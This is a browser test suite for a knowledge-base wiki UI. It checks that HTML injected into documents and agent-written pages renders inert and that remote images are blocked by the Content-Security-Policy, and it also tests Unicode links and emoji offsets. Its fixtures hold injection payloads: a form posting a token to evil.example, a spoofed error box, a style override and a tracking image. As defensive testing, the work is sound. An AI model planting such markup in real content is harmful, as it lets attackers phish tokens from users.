"""The web UI in Chromium over a knowledge base a stranger filled (found by a probe; each failed on the old code):

- a document whose title holds ``<style>`` and whose text holds a ``<form>`` and an ``id="error"`` element:
  the wiki page renders them as text (no style, form or input in the page body, the app's own error box
  still the one ``#error`` finds), and the page's Content-Security-Policy is reported by no violation;
- ``[[大阪 Office]]`` opens the Osaka page (the UI's own slug guess opened the Tokyo one), ``[[Москва]]`` is
  not marked broken;
- the passage view marks the quoted span after emoji (offsets are code points, JavaScript indexes UTF-16);
- an address with a broken %-escape shows an error instead of leaving the old view and an uncaught error.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from test_http_browser import chromium_page, serving

import graphmem

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (dev extra) is not installed")

pytestmark = pytest.mark.slow

EMOJI_TEXT = "🚀🚀🚀🚀🚀🚀🚀🚀 launch notes 𝐀𝐁𝐂. The Zebraserver depends on Quokkadb for storage.\n"
QUOTE = "The Zebraserver depends on Quokkadb for storage."


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("hostile") / "kb"
    with graphmem.open(home, config={"embeddings": {"model": "none"}}) as kb:
        kb.ingest_with_content(
            "ops", "Ops notes<style>body{background:red}</style>", "upload",
            "Cargo Router depends on Kestrel Queue <form action=//evil.example/c><input name=t>"
            "<button>Use token</button></form> <p id=\"error\">fake error box</p>.\n",
            entities=[{"name": "Cargo Router", "type": "service"}, {"name": "Kestrel Queue", "type": "queue"}],
            relations=[{"source": "Cargo Router", "target": "Kestrel Queue", "type": "depends on",
                        "supporting_text": "Cargo Router depends on Kestrel Queue <form action=//evil.example/c>"
                                           "<input name=t><button>Use token</button></form> <p id=\"error\">fake "
                                           "error box</p>."}])
        kb.ingest_with_content(
            "emoji", "Launch", "upload", EMOJI_TEXT,
            entities=[{"name": "Zebraserver", "type": "service"}, {"name": "Quokkadb", "type": "database"}],
            relations=[{"source": "Zebraserver", "target": "Quokkadb", "type": "depends on",
                        "supporting_text": QUOTE}])
        for title in ("東京 Office", "大阪 Office", "Москва"):
            kb.wiki.write_page("notes", title, f"About {title}.")
        kb.wiki.write_page("notes", "Offices", "See [[大阪 Office]] and [[Москва]].")
        # a page an agent wrote: its markdown is its own (not escaped), so the UI's sanitiser must hold
        kb.wiki.write_page("notes", "Trap", "<style>body{background:red}</style>\n\n<form action=//evil.example/c>"
                           "<input name=t><button>Use token</button></form>\n\n<p id=\"error\">fake error box</p>"
                           "\n\n<img src=\"http://evil.example/p.png\">\n")
    return home


@pytest.fixture(scope="module")
def hostile_server(hostile_home: Path) -> Iterator[str]:
    with serving(hostile_home) as base:
        yield base


@pytest.fixture(scope="module")
def browser_page(hostile_server: str) -> Iterator[tuple[Any, list[str], list[str]]]:
    errors: list[str] = []
    console: list[str] = []
    with chromium_page(errors, console) as pg:
        yield pg, errors, console


def _slug(base: str, title: str) -> str:
    import json
    import urllib.request

    with urllib.request.urlopen(f"{base}/wiki/pages?limit=500", timeout=10) as resp:
        return next(p["slug"] for p in json.loads(resp.read()) if p["title"] == title)


def test_a_hostile_document_renders_as_text(browser_page: Any, hostile_server: str) -> None:
    pg, errors, console = browser_page
    pg.goto(f"{hostile_server}/#/wiki/cargo-router")
    pg.wait_for_selector("#wiki-body")
    body = pg.locator("#wiki-body")
    assert body.locator("form, input, button, style").count() == 0
    assert "Use token" in body.inner_text() or "&lt;form" not in body.inner_html()
    assert pg.evaluate("document.getElementById('error').getAttribute('role')") == "alert"  # the app's own
    assert pg.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    summary = _slug(hostile_server, "Ops notes<style>body{background:red}</style>")
    pg.goto(f"{hostile_server}/#/wiki/{summary}")
    pg.locator("#wiki-body h1", has_text="<style>").wait_for()  # the title, shown as text
    assert pg.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    pg.goto(f"{hostile_server}/#/wiki/{_slug(hostile_server, 'Trap')}")
    pg.locator("#wiki-body", has_text="fake error box").wait_for()
    assert pg.locator("#wiki-body").locator("form, input, button, style, [id]").count() == 0
    assert pg.evaluate("document.getElementById('error').getAttribute('role')") == "alert"
    assert pg.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    # the remote image is refused by the policy (img-src 'self' data:), and nothing else is; the browser
    # reports it a moment after the page is drawn
    for _ in range(50):
        blocked = [m for m in console if "Content Security Policy" in m]
        if blocked:
            break
        pg.wait_for_timeout(100)
    assert blocked and all("evil.example/p.png" in m for m in blocked), blocked
    assert not errors, errors


def test_title_links_open_the_page_the_server_resolves(browser_page: Any, hostile_server: str) -> None:
    pg, errors, _ = browser_page
    pg.goto(f"{hostile_server}/#/wiki/{_slug(hostile_server, 'Offices')}")
    osaka = pg.locator("#wiki-body a", has_text="大阪 Office")
    osaka.wait_for()
    assert osaka.get_attribute("href") == f"#/wiki/{_slug(hostile_server, '大阪 Office')}"
    assert "broken" not in (osaka.get_attribute("class") or "")
    moscow = pg.locator("#wiki-body a", has_text="Москва")
    assert "broken" not in (moscow.get_attribute("class") or "")
    osaka.click()
    pg.locator("#wiki-page h2", has_text="大阪").wait_for()
    assert not errors, errors


def test_the_passage_view_marks_the_quote_after_emoji(browser_page: Any, hostile_server: str) -> None:
    pg, errors, _ = browser_page
    start = EMOJI_TEXT.index(QUOTE)  # code points, as the server counts them
    pg.goto(f"{hostile_server}/#/passage/emoji:v1:c0?start={start}&end={start + len(QUOTE)}")
    pg.wait_for_selector("#quoted")
    assert pg.locator("#quoted").inner_text() == QUOTE
    assert not errors, errors


def test_a_broken_percent_escape_shows_an_error(browser_page: Any, hostile_server: str) -> None:
    pg, errors, _ = browser_page
    pg.goto(f"{hostile_server}/#/search")
    pg.evaluate("location.hash = '#/entity/%E0%A4%A'")
    pg.wait_for_selector("#error:not([hidden])")
    assert "not valid" in pg.locator("#error").inner_text()
    assert not errors, errors
